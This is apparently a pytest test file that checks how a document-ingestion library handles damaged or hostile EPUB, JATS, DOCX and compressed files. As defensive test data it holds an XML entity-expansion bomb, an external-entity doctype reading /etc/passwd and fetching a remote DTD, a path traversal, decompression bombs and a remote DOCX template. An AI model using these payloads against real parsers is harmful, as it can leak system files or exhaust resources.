"""Bad files in sources `books`: each is a rejected record with its reason, or is read as far as it is sound."""

import bz2
import gzip
import io
import tarfile
import zipfile
from pathlib import Path

import pytest

from mmedc.api import prepare
from mmedc.engine.run import Inline
from tests import bookfiles
from tests.conftest import Notes
from tests.test_book_sources import read, said

PAGE = bookfiles.page("<p>Sound text.</p>")
TITLE = "<dc:title>T</dc:title>"
MEMBERS = bookfiles.epub_members({"a.xhtml": PAGE}, metadata=TITLE)
EPUB = bookfiles.zipped(MEMBERS)
BOMB = '<!DOCTYPE x [<!ENTITY a "boom"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">' + "".join(
    f'<!ENTITY {chr(99 + n)} "{f"&{chr(98 + n)};" * 8}">' for n in range(12)
) + "]>"  # fmt: skip
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://192.0.2.1/evil.dtd"> %d;]>'


def with_doctype(text: str, doctype: str) -> str:
    declaration, _, rest = text.partition("?>")
    return f"{declaration}?>{doctype}{rest.replace('<!DOCTYPE html>', '')}"


def epub_with(**members: str | bytes) -> bytes:
    return bookfiles.zipped(
        MEMBERS | {name.replace("__", "/").replace("_DOT_", "."): data for name, data in members.items()}
    )


def many_members() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/container.xml", bookfiles.CONTAINER)
        for number in range(50_001):
            archive.writestr(str(number), b"")
    return out.getvalue()


def locked() -> bytes:
    data = bytearray(EPUB)
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:  # in the central directory, which is what readers trust
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def lying_tar() -> bytes:
    out = io.BytesIO()
    info = tarfile.TarInfo("big.nxml")
    info.size = 1 << 40
    out.write(info.tobuf())
    return out.getvalue() + bytes(2048)


def spine(refs: str, more: str = "") -> bytes:
    members = bookfiles.epub_members({"a.xhtml": PAGE}, metadata=TITLE, spine=refs)
    opf = str(members["OEBPS/book.opf"]).replace("</manifest>", f"{more}</manifest>")
    return bookfiles.zipped(members | {"OEBPS/book.opf": opf})


deep_jats = bookfiles.jats("<sec>" * 5_000 + "<p>x</p>" + "</sec>" * 5_000)
loop = (
    '<item id="x" href="x.bin" media-type="a/b" fallback="y"/><item id="y" href="y.bin" media-type="a/b" fallback="x"/>'
)
drm = (
    '<encryption><EncryptedData><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>'
    '<CipherReference URI="OEBPS/a.xhtml"/></EncryptedData></encryption>'
)

REJECTED: dict[str, tuple[bytes, str]] = {
    "an EPUB cut in half": (EPUB[: len(EPUB) // 2], "damaged"),
    "an EPUB whose bytes are overwritten": (EPUB[:900] + bytes(400) + EPUB[1300:], "damaged"),
    "an EPUB whose package document is missing": (
        bookfiles.zipped({key: value for key, value in MEMBERS.items() if not key.endswith(".opf")}), "damaged"),
    "an EPUB whose package document is no XML": (epub_with(OEBPS__book_DOT_opf="<package"), "damaged"),
    "an EPUB without a spine": (spine("<!-- none -->"), "no_chapters"),
    "an EPUB whose spine goes round in circles": (spine('<itemref idref="x"/><itemref idref="y"/>', loop), "no_chapters"),
    "an EPUB that names files outside": (
        spine('<itemref idref="p"/>', '<item id="p" href="../../../etc/passwd" media-type="application/xhtml+xml"/>'), "no_chapters"),
    "an EPUB with a copy protection": (bookfiles.zipped(MEMBERS | {"META-INF/encryption.xml": drm}), "encrypted"),
    "an EPUB with a password": (locked(), "encrypted"),
    "a chapter that unpacks to a thousand times its size": (
        bookfiles.zipped(MEMBERS | {"OEBPS/a.xhtml": bookfiles.page("<p>" + " " * (8 << 20) + "</p>")}), "bomb"),
    "a package document that is a bomb": (epub_with(OEBPS__book_DOT_opf=" " * (9 << 20)), "bomb"),
    "an archive of 50,000 members": (many_members(), "bomb"),
    "an article cut in the middle": (bookfiles.jats("<p>Text</p>" * 9)[:-60], "damaged"),
    "an article that nests 5,000 levels": (deep_jats, "too_deep"),
    "an article of 2 MB": (bookfiles.jats("<p>x</p>" * 300_000), "too_large"),
    "a page that nests 3,000 levels": (b"<html><body>" + b"<div>" * 3_000 + b"text" + b"</div>" * 3_000, "too_deep"),
    "an article in damaged gzip": (gzip.compress(bookfiles.jats("<p>x</p>"))[:-30], "damaged"),
    "an article in gzip that is a bomb": (gzip.compress(bytes(80 << 20)), "too_large"),
    "a dump in damaged bzip2": (bz2.compress(bookfiles.wiki_dump(bookfiles.wiki_page("A", "x")))[:-20] + b"junk", "damaged"),
    "a DOCX without a body": (bookfiles.zipped({"word/document.xml": f"<w:document {bookfiles.WORD}/>"}, ()), "damaged"),
    "a DOCX that nests 5,000 tables": (
        bookfiles.docx("<w:tbl><w:tr><w:tc>" * 1_700 + "</w:tc></w:tr></w:tbl>" * 1_700), "too_deep"),
    "a DOCX whose document is missing": (bookfiles.zipped({"word/styles.xml": "<x/>", "[Content_Types].xml": "<Types/>"}, ()), "damaged"),
    "text in no charset": (bytes(range(128, 256)) * 40, "not_text"),
    "NUL bytes": (bytes(5_000), "not_text"),
    "a picture called a book": (b"\x89PNG\r\n\x1a\n" + bytes(100), "not_text"),
    "another archive": (bookfiles.zipped({"a.txt": "text"}), "not_text"),
}  # fmt: skip
SOUND: dict[str, bytes] = {
    "a wrong mimetype": bookfiles.zipped(MEMBERS | {"mimetype": "text/plain"}),
    "a page called .epub": bookfiles.page("<p>Sound text.</p>").encode(),
    "a chapter named twice": spine('<itemref idref="c0"/>' * 500),
    "a bomb of entities in a chapter": epub_with(OEBPS__a_DOT_xhtml=with_doctype(PAGE, BOMB)),
    "entities from outside in a chapter": epub_with(OEBPS__a_DOT_xhtml=with_doctype(PAGE, OUTSIDE)),
    "a bomb of entities in an article": bookfiles.jats("<p>Sound text.</p>").replace(b"<article ", BOMB.encode() + b"<article ", 1),
    "entities from outside in an article": bookfiles.jats("<p>Sound text.</p>").replace(b"<article ", OUTSIDE.encode() + b"<article ", 1),
    "a chapter that is not well-formed": epub_with(OEBPS__a_DOT_xhtml="<html><body><p>Sound <b>text.</p></body>"),
    "a table of contents that nests 5,000 levels": bookfiles.epub({"a.xhtml": PAGE}, metadata=TITLE, nav="<li><ol>" * 5_000),
    "a template from outside in a DOCX": bookfiles.zipped({
        "word/document.xml": f"<w:document {bookfiles.WORD}><w:body><w:p>{bookfiles.word_run('Sound text.')}</w:p></w:body></w:document>",
        "word/_rels/settings.xml.rels": '<Relationships><Relationship Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>',
    }, ()),
    "styles of a DOCX in a circle": bookfiles.docx(
        bookfiles.word_paragraph(bookfiles.word_run("Sound text."), "a"),
        styles='<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>'),
    "a span of a million columns": bookfiles.jats(
        '<p>Sound text.</p><table-wrap><table><tr><td colspan="999999" rowspan="999999"></td></tr></table></table-wrap>'),
}  # fmt: skip


@pytest.mark.parametrize("what", REJECTED)
def test_a_bad_file_is_one_removed_record(tmp_path: Path, what: str) -> None:
    data, reason = REJECTED[what]
    (row,) = read(tmp_path / "one", {"file.gz" if "gzip" in what else "file.epub": data}, limits={"document": "2MB"})
    assert said(row) == reason and row["text"] is None


@pytest.mark.parametrize("what", SOUND)
def test_what_is_sound_of_a_bad_file_is_read(tmp_path: Path, what: str) -> None:
    (row,) = read(tmp_path / "one", {"file.epub": SOUND[what]})
    assert said(row) == "" and " ".join(row["text"].split()) == "Sound text."


def test_references_to_entities_stay_as_they_are_written(tmp_path: Path) -> None:
    article = bookfiles.jats("<p>&e; &n; &alpha; &amp;</p>").replace(b"<article ", OUTSIDE.encode() + b"<article ", 1)
    (row,) = read(tmp_path / "one", {"a.xml": article})
    assert row["text"] == "&e; &n; α &"


def test_a_lost_chapter_costs_the_chapter(tmp_path: Path) -> None:
    deep = bookfiles.page("<div>" * 3_000 + "<p>x</p>" + "</div>" * 3_000)
    members = bookfiles.epub_members({"a.xhtml": PAGE, "b.xhtml": deep, "c.xhtml": PAGE}, metadata=TITLE)
    del members["OEBPS/c.xhtml"]
    (row,) = read(tmp_path / "one", {"a.epub": bookfiles.zipped(members)})
    assert row["text"] == "Sound text."
    assert [(left["part"], left["title"]) for left in row["left_out"]] == [
        ("too_deep", "OEBPS/b.xhtml"),
        ("missing", "OEBPS/c.xhtml"),
    ]


def test_a_tar_archive_that_lies_about_sizes(tmp_path: Path) -> None:
    rows = read(tmp_path / "one", {"a.tar": lying_tar()})
    assert [said(row) for row in rows] == ["too_large", "damaged"]


def test_ten_thousand_chapters(tmp_path: Path) -> None:
    chapters = {f"{n}.xhtml": bookfiles.page(f"<h1>Chapter {n}</h1><p>Text.</p>") for n in range(10_000)}
    nav = "".join(f'<li><a href="{name}">Chapter</a></li>' for name in chapters)
    (row,) = read(tmp_path / "one", {"a.epub": bookfiles.epub(chapters, metadata=TITLE, nav=nav)})
    assert len(row["sections"]) == 10_000 and row["text"].endswith("Chapter 9999\n\nText.")


def test_hostile_wikitext_ends(tmp_path: Path) -> None:
    from mmedc.books.rules import BookRules
    from mmedc.books.wiki import render

    for text in ("{{a|", "[[", "{|", "<ref>", "{{{", "=", "\n*", "[http://x "):
        render(text * 300, BookRules())  # the time is quadratic; the limit of a document's seconds ends longer ones


def test_a_build_of_bad_files_ends_and_accounts_for_each(tmp_path: Path) -> None:
    (tmp_path / "shelf").mkdir()
    for number, (what, (data, _)) in enumerate(REJECTED.items()):
        (tmp_path / "shelf" / f"{number:02}.{'gz' if 'gzip' in what else 'epub'}").write_bytes(data)
    text = (
        "Asthma and fever are diseases; the patient with asthma has cough and fever, and the doctor gives a drug. " * 9
    )
    (tmp_path / "shelf" / "sound.xml").write_bytes(bookfiles.jats(f"<p>{text}</p>"))
    recipe = tmp_path / "recipe.yaml"
    recipe.write_text(
        "name: shelf\nout: out\nlanguages: [en]\nfail_above: 100%\nlimits: {document: 2MB}\n"
        "sources:\n  shelf: {books: shelf}\npolicy: {all: {duplicate_line_ratio: {max: 1, ceiling: 1}, top_trigram_ratio: {max: 1, ceiling: 1}}}\n"
    )
    build = prepare(recipe)
    manifest = build.run(Inline(isolate=True), Notes())
    read_row = manifest.funnel[0]
    assert read_row.read == len(REJECTED) + 1 and read_row.kept == 1
    counts = {**read_row.rejected_by, **read_row.dropped}
    expected: dict[str, int] = {}
    for _, reason in REJECTED.values():
        expected[reason] = expected.get(reason, 0) + 1
    assert counts == expected
